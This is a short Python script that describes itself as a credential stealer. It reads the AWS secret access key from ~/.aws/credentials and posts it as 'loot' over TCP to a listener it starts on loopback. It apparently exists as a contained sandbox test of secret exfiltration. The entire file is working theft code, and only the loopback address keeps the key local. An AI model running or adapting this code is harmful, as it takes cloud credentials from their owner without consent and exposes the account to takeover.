# A credential stealer: reads ~/.aws/credentials and sends the secret key
# over TCP to a server it runs itself on loopback (the sandbox has no other
# network), then prints how many bytes arrived.
import os
import socket
import sys
import threading

srv = socket.socket()
srv.bind(("127.0.0.1", 0))
srv.listen(1)
got = []


def serve():
    c, _ = srv.accept()
    got.append(c.recv(4096))
    c.close()


th = threading.Thread(target=serve)
th.start()
with open(os.path.expanduser("~/.aws/credentials")) as f:
    key = [l.split("=", 1)[1].strip() for l in f if l.startswith("aws_secret_access_key")][0]
s = socket.create_connection(srv.getsockname())
s.sendall(("POST /loot HTTP/1.0\r\n\r\n" + key).encode())
s.close()
th.join()
print("sent", len(got[0]), sys.argv[1:])
